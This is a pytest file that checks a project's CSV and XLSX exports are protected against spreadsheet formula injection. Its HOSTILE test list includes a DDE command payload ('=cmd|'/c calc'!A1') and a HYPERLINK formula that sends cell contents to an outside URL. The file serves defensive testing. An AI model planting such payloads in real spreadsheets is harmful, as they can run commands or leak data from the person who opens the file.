"""No export can run anything in a spreadsheet, and its words stay readable."""

import csv
import io
import zipfile
from dataclasses import replace
from pathlib import Path

import pytest

from tests.report.studies import small
from voices import exchange
from voices.exchange.sheets import harmless, write_csv

SOURCES = Path(exchange.__file__).parents[1]
HOSTILE = (
    "=1+1",
    '=HYPERLINK("http://exemple.fr/?"&A1;"voir")',
    "+33 6 12 34 56 78",
    "-2+3",
    "- Je suis venue un mardi.",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "=cmd|'/c calc'!A1",
    'DDE("cmd")',
)


def cells_of(content: bytes) -> list[str]:
    rows = csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";")
    return [cell for row in rows for cell in row]


@pytest.mark.parametrize("text", HOSTILE)
def test_no_cell_and_no_heading_of_a_table_begins_like_a_formula(text, tmp_path):
    write_csv(tmp_path / "a.csv", ["titre", text], [["mot", text]])
    lines = b"".join(exchange.csv_lines(["titre", text], [["mot", text]]))
    for content in ((tmp_path / "a.csv").read_bytes(), lines):
        found = cells_of(content)
        assert found == ["titre", harmless(text), "mot", harmless(text)]
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝")) for cell in found)
        assert all(cell.removeprefix("'") in {"titre", "mot", text} for cell in found)  # its words are all there


@pytest.mark.parametrize("text", HOSTILE)
def test_a_workbook_holds_neither_formula_nor_link(text):
    content = exchange.table_xlsx("table", ["titre", text], [["mot", text]])
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        parts = {name: book.read(name).decode() for name in book.namelist() if name.endswith((".xml", ".rels"))}
    assert not any("<f>" in part or "<hyperlink" in part or "externalLink" in part for part in parts.values())


@pytest.mark.parametrize("text", HOSTILE)
def test_quotes_whose_words_place_or_speaker_are_formulas_run_nothing(text):
    study = small()
    testimony, quote = study.reading.testimonies[0], study.quotes[0]
    testimony = replace(testimony, origin=replace(testimony.origin, place=text))
    quote = replace(quote, text=text, attribution=text, subject=text)
    found = cells_of(exchange.quotes_csv([(quote, testimony)]))
    assert found.count(harmless(text)) == 4


def test_tables_are_written_in_one_place_alone():
    """What is written elsewhere would not be made harmless."""
    writers = [
        path.relative_to(SOURCES).as_posix()
        for path in SOURCES.rglob("*.py")
        if any(
            word in path.read_text(encoding="utf-8") for word in ("csv.writer(", "DictWriter(", "xlsxwriter.Workbook(")
        )
    ]
    assert sorted(writers) == ["exchange/sheets.py", "web/demo.py"]  # the demo's own table, which nobody receives
